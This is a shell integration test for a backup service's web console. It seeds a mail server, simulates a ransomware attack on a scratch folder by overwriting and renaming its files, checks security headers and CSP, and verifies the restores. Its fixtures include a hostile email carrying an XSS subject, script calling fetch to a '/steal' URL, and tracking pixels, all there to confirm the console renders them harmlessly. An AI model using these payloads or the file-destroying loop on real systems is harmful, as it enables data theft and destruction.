#!/bin/bash
# The web console in a real browser (issue 13, docs/console.md): a real
# coffer serve and Dovecot on loopback (ports 18970-18979) seeded with a
# tenant, two folder units under a policy (one hit by ransomware: files
# overwritten with random bytes and renamed, then backed up, so it is flagged
# and a point recommended), a mailbox holding a hostile message, and a token
# per role; then Debian's Chromium, headless, driven by
# tests/browser/console.mjs (playwright-core over the DevTools protocol; no
# browser is downloaded): the ransomware story through the pages, the mail
# story, what an auditor sees and may do, every page screenshotted into
# $(dirname $COFFER)/console-screenshots and checked by axe-core. This
# script adds the security headers (curl) and checks the restores' results
# outside the browser: the folder byte for byte, the mailbox by imaplib.
. "$(dirname "$0")/lib.sh"

need_tools console curl jq python3 openssl
SEED=console
HERE=$(cd "$(dirname "$0")/../.." && pwd)
BROWSER=$HERE/tests/browser
IPORT=18970
PORT=18975
SHOTS=$(dirname "$COFFER")/console-screenshots
U=/v1/tenants

# Skip cleanly where the browser or the test's node packages are missing
# (scripts/install-deps.sh installs both).
for need in /usr/bin/chromium "$(command -v node || echo node)" "$BROWSER/node_modules/playwright-core" \
	"$BROWSER/node_modules/axe-core"; do
	[ -e "$need" ] || { not_ok "console: $need is installed" "missing; run scripts/install-deps.sh"; exit 1; }
done

# ---------------------------------------------------------------------
# Dovecot with alice's corpus and one hostile message: markup and a remote
# image in its text, markup in its subject. The console must show them as
# text and load nothing.
MAIL_FROM=mallory@evil.example
MAIL_SUBJECT='Overdue invoice <b>#4711</b> <img src=x onerror=alert(1)>'
REMOTE_HOST=203.0.113.7
dovecot_use console "$IPORT"
"$DOVECOT" corpus "$D" alice 30 --big-mb 0 >/dev/null || { not_ok "console: the test corpus is written"; exit 1; }
python3 - "$IPORT" "$MAIL_FROM" "$MAIL_SUBJECT" "$REMOTE_HOST" <<'EOF' || { not_ok "console: the hostile message is appended"; exit 1; }
import imaplib, sys, time
port, frm, subj, host = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
body = (f'Pay now.\r\n<script>window.__pwned = true; fetch("http://{host}/steal")</script>\r\n'
        f'<img src="http://{host}/pixel.gif">\r\n')
html = f'<p>Pay now.</p><img src="http://{host}/track.gif"><script>window.__pwned = true</script>'
msg = (f'From: Mallory <{frm}>\r\nTo: alice@example.org\r\nSubject: {subj}\r\n'
       f'Date: Mon, 07 Dec 2026 03:00:00 +0000\r\nMessage-ID: <hostile-1@evil.example>\r\n'
       'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="b1"\r\n\r\n'
       f'--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n'
       f'--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b1--\r\n')
m = imaplib.IMAP4("127.0.0.1", port)
m.login("alice", "secret")
m.append("INBOX", None, imaplib.Time2Internaldate(time.time()), msg.encode())
m.logout()
EOF

serve_start serve "http://127.0.0.1:$PORT" --data "$T/data" --listen "127.0.0.1:$PORT" \
	--workers 3 --tick-ms 100 --min-frequency 1 --source-allow "127.0.0.1:$IPORT" \
	${CONSOLE_WEB_ROOT:+--web-root "$CONSOLE_WEB_ROOT"} ||
	{ not_ok "console: coffer serve starts" "$(serve_why serve)"; exit 1; }
GTOK=$(grep -m1 '^cft_' "$T/serve.out")
TENANT_NAME=acme
tenant "$TENANT_NAME" || { not_ok "console: a tenant and its admin token" "$(cat "$T/resp")"; exit 1; }
token() { api "$TOK" POST "$U/$TID/tokens" "{\"name\":\"$1\",\"role\":\"$1\"}"; jq -r .secret "$T/resp"; }
OPTOK=$(token restoreOperator)
AUTOK=$(token auditor)

# Two folder units under one policy: the policy takes their first points.
make_folder() {
	local d=$1 i
	mkdir -p "$d/docs/old" "$d/media"
	for i in 1 2 3 4 5 6; do seq $((i * 100000)) $((i * 100000 + 20000)) >"$d/docs/report-$i.txt"; done
	seq 1 4000 >"$d/docs/old/archive.txt"
	echo "notes of $(basename "$d")" >"$d/notes.md"
	gen "$d" 30000 >"$d/media/logo.bin"
	chmod 640 "$d/docs/report-1.txt"
}
make_folder "$T/src/finance"
make_folder "$T/src/website"
unit() {
	api "$GTOK" POST "$U/$TID/protectionUnits" "{\"name\":\"$1\",\"kind\":\"site\",\"source\":$2}"
	jq -r .id "$T/resp"
}
FIN=$(unit finance "{\"type\":\"folder\",\"path\":\"$T/src/finance\"}")
WEB=$(unit website "{\"type\":\"folder\",\"path\":\"$T/src/website\"}")
api "$TOK" POST "$U/$TID/protectionUnits" "{\"name\":\"alice\",\"kind\":\"mailbox\",\"source\":{\"type\":\"imap\",\"host\":\"127.0.0.1\",\"port\":$IPORT,\"tls\":\"none\",\"user\":\"alice\",\"auth\":\"login\",\"secret\":\"secret\"}}"
MAIL=$(jq -r .id "$T/resp")
api "$TOK" POST "$U/$TID/protectionPolicies" \
	"{\"name\":\"nightly\",\"kind\":\"site\",\"units\":[\"$FIN\",\"$WEB\"],\"frequencySeconds\":86400,\"state\":\"active\"}"
api "$TOK" POST "$U/$TID/protectionPolicies" \
	"{\"name\":\"mail\",\"kind\":\"mailbox\",\"units\":[\"$MAIL\"],\"frequencySeconds\":86400,\"state\":\"active\"}"

backup() {
	api "$TOK" POST "$U/$TID/protectionUnits/$1/backup"
	until_true 60 has_points "$1" "$2"
}
job_indexed() {
	[ "$(q "$TOK" "$U/$TID/jobs?unit=$1&kind=backup" '[.items[] | select(.state == "succeeded")][0].detail.searchIndex.indexed')" = true ]
}
seeded() {
	until_true 60 has_points "$FIN" 1 && until_true 30 has_points "$WEB" 1 || return 1
	for n in 2 3; do
		echo "edit $n" >>"$T/src/finance/notes.md"; seq 1 300 >>"$T/src/finance/docs/report-2.txt"
		backup "$FIN" "$n" || return 1
	done
	until_true 60 has_points "$MAIL" 1 && until_true 30 job_indexed "$MAIL"
}
if seeded; then
	echo "# seeded in $SECONDS s"
	ok "console: seeded: a tenant, folder units under a policy with 3 points, a mailbox indexed"
else
	not_ok "console: seeded" "finance $(rp_count "$FIN"), website $(rp_count "$WEB"), mail $(rp_count "$MAIL"): $(why "$T/serve.err")"
	exit 1
fi

# Ransomware on finance: every file overwritten with random bytes and
# renamed .locked, a ransom note; then the backup that records it.
cp -a "$T/src/finance" "$T/finance-before"
(cd "$T/src/finance" && find . -type f -print0 | sort -z | xargs -0 sha256sum) >"$T/finance-before.sha256"
while IFS= read -r -d '' f; do
	head -c "$(stat -c %s "$f")" /dev/urandom >"$f.locked" && rm -f "$f"
done < <(find "$T/src/finance" -type f -print0)
echo "Your files are encrypted. Pay 1 BTC." >"$T/src/finance/README-RESTORE-FILES.txt"
backup "$FIN" 4 || { not_ok "console: the attacked point is taken" "$(rp_count "$FIN") points"; exit 1; }
good=$(q "$TOK" "$U/$TID/protectionUnits/$FIN/recommendedRestorePoints" \
	'[.recommendations[] | select(.kind == "beforeAnomaly")][0].restorePoint')
expect_eq "console: the API recommends point 3, before the anomaly" "$good" 3

# ---------------------------------------------------------------------
# Security headers, on the page, a script and an API answer: the exact
# CSPs of src/server/web.h (the console's own files may load only from the
# console; a JSON answer is never a document), no sniffing, no framing, no
# referrer.
CSP_CONSOLE="default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; font-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
CSP_API="default-src 'none'; frame-ancestors 'none'; sandbox"
headers_of() { curl -s -o /dev/null -D - "$@" | tr -d '\r'; }
header() { grep -i "^$1:" | head -1 | cut -d: -f2- | sed 's/^ //'; }
for what in "/ $CSP_CONSOLE" "/ui/app.js $CSP_CONSOLE" "$U/$TID/protectionUnits $CSP_API"; do
	path=${what%% *} want=${what#* }
	h=$(headers_of -H "Authorization: Bearer $TOK" "$BASE$path")
	csp=$(header Content-Security-Policy <<<"$h")
	bad=
	[ "$(head -1 <<<"$h" | cut -d' ' -f2)" = 200 ] || bad="$bad status $(head -1 <<<"$h");"
	[ "$csp" = "$want" ] || bad="$bad CSP '$csp';"
	[ "$(header X-Content-Type-Options <<<"$h")" = nosniff ] || bad="$bad no nosniff;"
	[ "$(header X-Frame-Options <<<"$h")" = DENY ] || bad="$bad X-Frame-Options '$(header X-Frame-Options <<<"$h")';"
	[ "$(header Referrer-Policy <<<"$h")" = no-referrer ] || bad="$bad Referrer-Policy '$(header Referrer-Policy <<<"$h")';"
	if [ -z "$bad" ]; then ok "console: security headers on $path (exact CSP, nosniff, DENY framing, no-referrer)"
	else not_ok "console: security headers on $path (exact CSP, nosniff, DENY framing, no-referrer)" "$bad"; fi
done

# ---------------------------------------------------------------------
# The browser.
rm -rf "$SHOTS"
mkdir -p "$SHOTS"
export BASE TID TENANT_NAME GTOK TOK OPTOK AUTOK MAIL_FROM MAIL_SUBJECT REMOTE_HOST SHOTS
export RANSOM_UNIT=$FIN RANSOM_NAME=finance RANSOM_GOOD=3 RANSOM_BAD=4 RANSOM_FILE=report-3.txt
export MAIL_UNIT=$MAIL STATE=$T/browser-state.json
timeout 300 node "$BROWSER/console.mjs" >"$T/browser.out" 2>"$T/browser.err"
brc=$?
cat "$T/browser.out"
grep -q . "$T/browser.err" && sed 's/^/# node: /' "$T/browser.err" | head -20
[ $brc = 0 ] || [ $brc = 1 ] || not_ok "console: the browser run ends" "exit $brc: $(tail -2 "$T/browser.err" | tr '\n' ' ')"
grep -q '^not ok' "$T/browser.out" && FAILED=1
echo "# screenshots in $SHOTS ($(ls "$SHOTS" | wc -l) files)"

# The restores the browser asked for, seen from outside.
if (cd "$T/src/finance" && sha256sum --quiet -c "$T/finance-before.sha256") >"$T/sum.out" 2>&1 &&
	diff -r --no-dereference "$T/finance-before" "$T/src/finance" >"$T/diff.out" 2>&1; then
	ok "console: after the browser's restore, finance is byte-identical to before the attack (sha256sum, diff -r)"
else
	not_ok "console: after the browser's restore, finance is byte-identical to before the attack" \
		"$(head -3 "$T/sum.out" "$T/diff.out" | tr '\n' ' ')"
fi
restored=$(imap alice folders | grep '^Restored-' | tr '\n' ' ')
n=$(imap alice from "$MAIL_FROM" Restored-)
if [ -n "$restored" ] && [ "$n" = 1 ]; then
	ok "console: the message is in Dovecot's $restored folder (imaplib)"
else
	not_ok "console: the message restored to a Restored-… folder" "folders '$restored', messages from $MAIL_FROM there: $n"
fi
sanitizer "$T/serve.err" && not_ok "console: no sanitizer report from the server" "$(grep -m1 -E 'Sanitizer|runtime error:' "$T/serve.err")"
finish
